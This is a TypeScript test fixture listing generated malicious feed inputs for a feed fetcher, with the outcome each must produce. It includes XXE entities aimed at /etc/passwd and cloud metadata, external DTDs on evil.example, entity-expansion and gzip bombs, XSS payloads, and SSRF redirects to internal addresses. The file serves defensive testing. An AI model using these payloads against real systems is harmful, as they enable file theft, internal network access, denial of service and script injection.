/**
 * Feeds that nobody should serve, and what must become of each: generated, seeded, nothing taken from anywhere. Bytes are
 * made when a case runs, so that the list costs nothing. Long because it is a list.
 */
import { gzipSync } from 'node:zlib';
import * as fc from 'fast-check';

type Ending = 'BAD_SOURCE' | 'FORBIDDEN_TARGET' | 'LIMIT_EXCEEDED' | 'NETWORK' | 'done' | `HTTP_${number}`;

export interface FeedCase {
  readonly name: string;
  /** What the job must end as; several where a random change decides. */
  readonly ends: readonly Ending[];
  readonly status?: number;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: () => string | Buffer;
  /** Sent again and again until the other side hangs up. */
  readonly isEndless?: boolean;
  /** Entries stored, where the job ends well. */
  readonly entries?: number;
}

const seed = 20_261_121;
const channel = (inside: string, head = ''): string =>
  `${head}<rss version="2.0"><channel><title>T</title>${inside}</channel></rss>`;
const item = (inside: string): string => `<item>${inside}</item>`;
const feed = (inside: string, head = ''): string => channel(item(inside), head);
const bad = ['BAD_SOURCE'] as const;
const tooMuch = ['LIMIT_EXCEEDED'] as const;
const fine = ['done'] as const;

function laughs(levels: number, times: number): string {
  const declared = Array.from({ length: levels }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(times)}">`);
  return feed(`<title>&l${levels};</title>`, `<!DOCTYPE rss [<!ENTITY l0 "lol">${declared.join('')}]>`);
}

const doctype = (inside: string, title = '&x;'): string => feed(`<title>${title}</title>`, `<!DOCTYPE rss ${inside}>`);

const doctypes: readonly (readonly [string, string, readonly Ending[]])[] = [
  ['a file by entity', doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]'), bad],
  ['an address by entity', doctype('[<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]'), bad],
  ['a public entity', doctype('[<!ENTITY x PUBLIC "-//x" "https://evil.example/">]'), bad],
  ['an entity nobody uses', doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', 'a'), bad],
  ['a parameter entity', doctype('[<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]'), bad],
  ['an inner parameter entity', doctype('[<!ENTITY % x "<!ENTITY y \'z\'>"> %x;]'), bad],
  ['an unparsed entity', doctype('[<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "a.gif" NDATA n>]'), bad],
  ['a DTD elsewhere', doctype('SYSTEM "https://evil.example/x.dtd"'), bad],
  ['a public DTD elsewhere', doctype('PUBLIC "-//x//y" "https://evil.example/x.dtd"'), bad],
  ['a million laughs', laughs(6, 10), tooMuch],
  ['a billion laughs', laughs(9, 10), tooMuch],
  [
    'quadratic growth',
    feed(`<title>${'&x;'.repeat(100_000)}</title>`, `<!DOCTYPE rss [<!ENTITY x "${'a'.repeat(50_000)}">]>`),
    tooMuch,
  ],
  ['a circle of entities', doctype('[<!ENTITY x "&y;"><!ENTITY y "&x;">]'), tooMuch],
  ['an entity of itself', doctype('[<!ENTITY x "&x;">]'), tooMuch],
  [
    'ten thousand entities',
    doctype(`[${Array.from({ length: 10_000 }, (_, n) => `<!ENTITY x${n} "">`).join('')}]`),
    tooMuch,
  ],
  ['a DOCTYPE that does not end', `<!DOCTYPE rss [${'<!ENTITY x "y">'.repeat(100)}<rss/>`, bad],
  ['a megabyte of DOCTYPE', doctype(`[<!--${'x'.repeat(1_000_000)}-->]`), bad],
  ['a script by entity', doctype('[<!ENTITY x "&#60;script>alert(1)&#60;/script>">]'), fine],
  ['markup by entity', doctype('[<!ENTITY x "<b>bold</b>">]'), fine],
  ['an entity nobody declared', doctype('[<!ENTITY y "z">]'), fine],
];
const documents = doctypes.map(([name, body, ends]) => made(`DTD: ${name}`, body, ends, ends === fine ? 1 : 0));

function made(
  name: string,
  body: string | Buffer | (() => string | Buffer),
  ends: readonly Ending[],
  entries = 0,
): FeedCase {
  return { name, body: typeof body === 'function' ? body : () => body, ends, ...(ends === fine ? { entries } : {}) };
}

const utf16 = (text: string, isBig = false): Buffer =>
  isBig ? Buffer.from(text, 'utf16le').swap16() : Buffer.from(text, 'utf16le');
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');
const typed = (one: FeedCase, charset: string): FeedCase => ({
  ...one,
  headers: { 'content-type': `text/xml; charset=${charset}` },
});
const french = feed('<title>L\xe9gende d\xe9j\xe0 vue \xe0 No\xebl, o\xf9 l\x27\xeatre aim\xe9 r\xeave</title>');

const encodings: readonly FeedCase[] = [
  made('UTF-16 with a mark', () => utf16(`\ufeff${feed('<title>é</title>')}`), fine, 1),
  made('UTF-16 big-endian with a mark', () => utf16(`\ufeff${feed('<title>é</title>')}`, true), fine, 1),
  made('UTF-16 without a mark', () => utf16(feed('<title>é</title>')), fine, 1),
  made(
    'UTF-16 that calls itself UTF-8',
    () => utf16(feed('<title>é</title>', '<?xml version="1.0" encoding="utf-8"?>')),
    fine,
    1,
  ),
  made('UTF-16 of half a character', () => utf16(`\ufeff${feed('<title>é</title>')}`).subarray(0, 91), bad),
  made('UTF-16 with halves of pairs', () => utf16(`\ufeff${feed('<title>\ud800 x</title>')}`), bad),
  made(
    'UTF-32',
    () =>
      Buffer.concat([
        Buffer.of(0xff, 0xfe, 0, 0),
        Buffer.from(Array.from('<rss/>').flatMap((char) => [char.charCodeAt(0), 0, 0, 0])),
      ]),
    bad,
  ),
  typed(
    made('Latin-1 that HTTP calls UTF-8', () => latin1(french), fine, 1),
    'utf-8',
  ),
  typed(
    made('UTF-8 that HTTP calls ASCII', () => feed('<title>é</title>'), fine, 1),
    'us-ascii',
  ),
  typed(
    made('HTTP names no encoding', () => feed('<title>é</title>'), fine, 1),
    'x-user-undefined',
  ),
  typed(
    made('HTTP names UTF-7', () => feed('<title>+ADw-script+AD4-</title>'), fine, 1),
    'utf-7',
  ),
  typed(
    made('HTTP names UTF-16 and sends ASCII', () => feed('<title>a</title>'), fine, 1),
    'utf-16',
  ),
  typed(
    made('HTTP names an attack', () => feed('<title>a</title>'), fine, 1),
    '../../etc/passwd',
  ),
  made(
    'a declaration that lies',
    () => latin1(french.replace('<rss', '<?xml version="1.0" encoding="utf-8"?><rss')),
    fine,
    1,
  ),
  made(
    'a declaration of nonsense',
    () => feed('<title>é</title>', '<?xml version="1.0" encoding="nonsense"?>'),
    fine,
    1,
  ),
  made('two marks', () => `\ufeff\ufeff${feed('<title>a</title>')}`, fine, 1),
  made('NUL in the middle', () => feed('<title>a\u0000b</title><guid>\u0000</guid>'), fine, 1),
  made(
    'NUL and halves of pairs by number',
    () => feed('<title>a&#0;&#xD800;&#xDFFF;b</title><guid>&#0;g</guid><pubDate>&#0;</pubDate>'),
    fine,
    1,
  ),
  made(
    'control characters',
    () => feed(`<title>${Array.from({ length: 32 }, (_, n) => String.fromCharCode(n)).join('')}</title>`),
    fine,
    1,
  ),
  made(
    'UTF-8 that is too long for its character',
    () =>
      Buffer.concat([
        Buffer.from('<rss version="2.0"><channel><title>'),
        Buffer.of(0xc0, 0xbc, 0xe0, 0x80, 0xbc),
        Buffer.from('</title></channel></rss>'),
      ]),
    ['done', 'BAD_SOURCE'],
  ),
];

const nothingLikeIt: readonly FeedCase[] = [
  made('nothing', '', bad),
  made('one byte', '<', bad),
  made('white space', ' \n\t'.repeat(1_000), bad),
  made('text', 'lorem ipsum '.repeat(1_000), bad),
  made('a web page', '<!DOCTYPE html><html><head><title>News</title></head><body><h1>item</h1></body></html>', bad),
  made(
    'a web page that speaks of feeds',
    '<html><body><pre>&lt;rss version="2.0"&gt;</pre><channel></channel></body></html>',
    bad,
  ),
  made(
    'a page for robots',
    '<html><head><meta name="robots" content="noindex"></head><body>Are you human?</body></html>',
    bad,
  ),
  made(
    'a sitemap',
    '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://e.example/</loc></url></urlset>',
    bad,
  ),
  made('OPML', '<opml version="2.0"><body><outline text="a" xmlUrl="https://e.example/rss"/></body></opml>', bad),
  made('SVG', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', bad),
  made('a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), bad),
  made('an archive', () => gzipSync(feed('<title>a</title>')), bad),
  made('JSON that is none', '{"version": "https://jsonfeed.org/version/1.1", "items": [', bad),
  made('JSON without items', '{"version": "1.1"}', ['BAD_SOURCE', 'done']),
  made('JSON of numbers', '{"version": 1.1, "title": 7, "items": [1, null, "x", [], {}]}', ['BAD_SOURCE', 'done']),
  made(
    'JSON with __proto__',
    '{"version":"1.1","title":"T","__proto__":{"items":[]},"items":[{"id":"1","__proto__":{"url":"javascript:x"}}]}',
    fine,
    1,
  ),
  ...[1, 100, 10_000].map((bytes) =>
    made(
      `${bytes} random bytes`,
      () =>
        Buffer.from(fc.sample(fc.uint8Array({ minLength: bytes, maxLength: bytes }), { seed, numRuns: 1 })[0] ?? []),
      bad,
    ),
  ),
];

const deep = 300_000;
const shapes: readonly FeedCase[] = [
  made('100,000 items', () => channel('<item><title>a</title></item>'.repeat(100_000)), tooMuch),
  made('1,001 items', () => channel('<item><title>a</title></item>'.repeat(1_001)), tooMuch),
  made(
    '1,001 JSON items',
    () => `{"version":"1.1","title":"T","items":[${'{"id":"1"},'.repeat(1_000)}{"id":"2"}]}`,
    tooMuch,
  ),
  made(
    '1,000 items of one identity',
    () => channel('<item><title>a</title><guid>1</guid></item>'.repeat(1_000)),
    fine,
    1,
  ),
  made(
    '1,000 items',
    () =>
      channel(
        Array.from({ length: 1_000 }, (_, n) => item(`<guid>${n}</guid><link>https://e.example/${n}</link>`)).join(''),
      ),
    fine,
    1_000,
  ),
  made('elements without end', () => channel('<a>'.repeat(deep)), bad),
  made('titles in titles', () => channel(`<item>${'<title>'.repeat(deep)}`), bad),
  made('items in items', () => channel('<item>'.repeat(deep)), bad),
  made('bare brackets', () => channel(`<item><title>${'<'.repeat(4_000_000)}`), bad),
  made('closing tags of nothing', () => channel(`${'</a>'.repeat(deep)}<item><title>x</title></item>`), [
    'done',
    'BAD_SOURCE',
  ]),
  made('100,001 tags', () => channel('<b/>'.repeat(100_001)), tooMuch),
  made('100,001 attributes', () => `<rss version="2.0" ${'a="b" '.repeat(100_001)}><channel/></rss>`, tooMuch),
  made('a name of four megabytes', () => channel(`<${'a'.repeat(4_000_000)}/>`), ['done', 'BAD_SOURCE']),
  made('an attribute that does not end', () => `<rss version="2.0"><channel a="${'x'.repeat(4_000_000)}`, bad),
  made('comments that do not end', () => channel('<!--'.repeat(1_000_000)), ['done', 'BAD_SOURCE']),
  made('a title of four megabytes', () => feed(`<title>${'a '.repeat(2_000_000)}</title>`), fine, 1),
  made('four megabytes of ampersands', () => feed(`<title>${'&'.repeat(4_000_000)}</title>`), fine, 1),
  made(
    'a summary of nested markup',
    () => feed(`<title>x</title><description><![CDATA[${'<b>'.repeat(deep)}]]></description>`),
    fine,
    1,
  ),
  made('deep JSON', () => `{"version":"1.1","title":"x","items":[${'['.repeat(4_000_000)}`, bad),
  made(
    'no prefix is declared',
    () => feed('<x:title>a</x:title><dc:date>2020-01-01</dc:date><title>a</title>'),
    fine,
    1,
  ),
  made(
    '10,000 namespaces',
    () =>
      `<rss version="2.0" ${Array.from({ length: 10_000 }, (_, n) => `xmlns:n${n}="u${n}"`).join(' ')}><channel><title>T</title></channel></rss>`,
    ['done', 'BAD_SOURCE'],
  ),
];

const scripts = [
  '<script>alert(1)</script>x',
  '&lt;script&gt;alert(1)&lt;/script&gt;x',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;x',
  '<![CDATA[<script>alert(1)</script>x]]>',
  '<![CDATA[<img src=x onerror=alert(1)>x]]>',
  '<![CDATA[<svg/onload=alert(1)>x]]>',
  '<![CDATA[<a href="javascript:alert(1)">x</a>]]>',
  '<![CDATA[<a href=" &#106;avascript:alert(1)">x</a>]]>',
  '<![CDATA[<iframe srcdoc="<script>alert(1)</script>"></iframe>x]]>',
  '<![CDATA[<style>@import "//evil.example"</style><p style="background:url(//evil.example)">x]]>',
  '<![CDATA[<form action="//evil.example"><button>x</button></form>]]>',
  '<![CDATA[<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>x]]>',
  '<![CDATA[<noscript><p title="</noscript><img src=x onerror=alert(1)>">x]]>',
  '<![CDATA[<scr<script>ipt>alert(1)</scr</script>ipt>x]]>',
  '<![CDATA[<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">x]]>',
].map((html, n) =>
  made(
    `a script, ${n + 1}: ${html.slice(0, 40)}`,
    feed(`<guid>${n}</guid><title>${html}</title><description>${html}</description>`),
    fine,
    1,
  ),
);

const dates = [
  '0000-00-00T00:00:00Z',
  '9999-12-31T23:59:59Z',
  'Sat, 31 Jun 2006 00:00:00 GMT',
  '1e400',
  '-1',
  'NaN',
  'now',
  '٢٠٢٦-١١-٢١',
  '2026-11-21T25:00:00Z',
  'Mon, 99 Foo 99999',
  '('.repeat(10_000),
  '\u202e2026',
].map((date) => made(`a date: ${date.slice(0, 30)}`, feed(`<guid>d</guid><pubDate>${date}</pubDate>`), fine, 1));

const links = [
  'javascript:alert(1)',
  'data:text/html,x',
  'file:///etc/passwd',
  '//evil.example/x',
  '../../../x',
  'http://[::1',
  'https://user:pw@e.example/',
  'http://e.example:99999/',
  `https://e.example/${'x'.repeat(100_000)}`,
].map((link) => made(`a link: ${link.slice(0, 30)}`, feed(`<title>l</title><link>${link}</link>`), fine, 1));

const identities: readonly FeedCase[] = [
  made(
    'guids that differ by case and escapes',
    channel(['a', 'A', '%61', ' a ', '<![CDATA[a]]>', '&#97;'].map((guid) => item(`<guid>${guid}</guid>`)).join('')),
    fine,
    3,
  ),
  made(
    'blank guids',
    channel('<item><guid> </guid><title>a</title></item><item><guid/><title>b</title></item>'),
    fine,
    2,
  ),
  made('a guid of a megabyte', () => feed(`<guid>${'g'.repeat(1_000_000)}</guid>`), fine, 1),
  made('a guid called __proto__', feed('<guid>__proto__</guid><title>constructor</title>'), fine, 1),
];

const targets = [
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:22/',
  'http://0x7f.1/',
  'http://2130706433/',
  'http://[::ffff:127.0.0.1]/',
  'http://[fd00::1]/',
  'http://localhost/',
  'http://10.0.0.1/',
  'file:///etc/passwd',
  'gopher://e.example/',
  'http://e.example:25/',
].map(
  (location): FeedCase => ({
    name: `a redirect to ${location}`,
    status: 302,
    headers: { location },
    ends: ['FORBIDDEN_TARGET'],
  }),
);

const answers: readonly FeedCase[] = [
  ...targets,
  { name: 'a redirect to itself', status: 301, headers: { location: '/' }, ends: ['FORBIDDEN_TARGET'] },
  { name: '304 to a first question', status: 304, ends: fine, entries: 0 },
  { name: '410', status: 410, ends: fine, entries: 0 },
  { name: '429', status: 429, headers: { 'retry-after': '-5' }, ends: ['HTTP_429'] },
  { name: '404 with a feed inside', status: 404, body: () => feed('<title>a</title>'), ends: ['HTTP_404'] },
  { name: '451', status: 451, ends: ['HTTP_451'] },
  { name: '50 MB that say so', body: () => Buffer.alloc(50_000_000, ' '), ends: tooMuch },
  { name: 'an endless answer', body: () => Buffer.alloc(65_536, '<'), isEndless: true, ends: tooMuch },
  {
    name: 'a gzip bomb',
    headers: { 'content-encoding': 'gzip' },
    body: () => gzipSync(Buffer.alloc(50_000_000)),
    ends: tooMuch,
  },
  { name: 'a packing nobody knows', headers: { 'content-encoding': 'zzz' }, body: () => feed(''), ends: bad },
  {
    name: 'headers that say too much',
    headers: { etag: 'x'.repeat(10_000), 'cache-control': `max-age=${'9'.repeat(1_000)}`, expires: '(((' },
    body: () => feed('<title>a</title>'),
    ends: fine,
    entries: 1,
  },
];

/** One good feed of each format, and what becomes of it when a disk or a line damages it. */
const good: Readonly<Record<string, string>> = {
  rss: channel(
    `${item('<title>One</title><guid>1</guid><link>https://e.example/1</link>')}${item('<title>Two</title><guid>2</guid>')}`,
    '<?xml version="1.0"?>',
  ),
  atom: '<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><entry><id>1</id><title>One</title><updated>2026-01-01T00:00:00Z</updated></entry></feed>',
  rdf: '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><title>T</title></channel><item rdf:about="https://e.example/1"><title>One</title></item></rdf:RDF>',
  json: '{"version":"https://jsonfeed.org/version/1.1","title":"T","items":[{"id":"1","content_text":"One"}]}',
};
const any = ['done', 'BAD_SOURCE', 'LIMIT_EXCEEDED'] as const;
const damaged: readonly FeedCase[] = Object.entries(good).flatMap(([format, text]) => [
  ...[10, 50, 90].map((percent) =>
    made(`${format} cut off at ${percent} %`, text.slice(0, Math.floor((text.length * percent) / 100)), any),
  ),
  ...fc
    .sample(fc.array(fc.tuple(fc.nat(text.length - 1), fc.nat(7)), { minLength: 1, maxLength: 12 }), {
      seed,
      numRuns: 6,
    })
    .map((flips, n) =>
      made(
        `${format} with flipped bits, ${n + 1}`,
        () => {
          const bytes = Buffer.from(text);
          for (const [at, bit] of flips) bytes.writeUInt8(bytes.readUInt8(at) ^ (1 << bit), at);
          return bytes;
        },
        any,
      ),
    ),
]);

export const feedCases: readonly FeedCase[] = [
  ...documents,
  ...encodings,
  ...nothingLikeIt,
  ...shapes,
  ...scripts,
  ...dates,
  ...links,
  ...identities,
  ...answers,
  ...damaged,
];
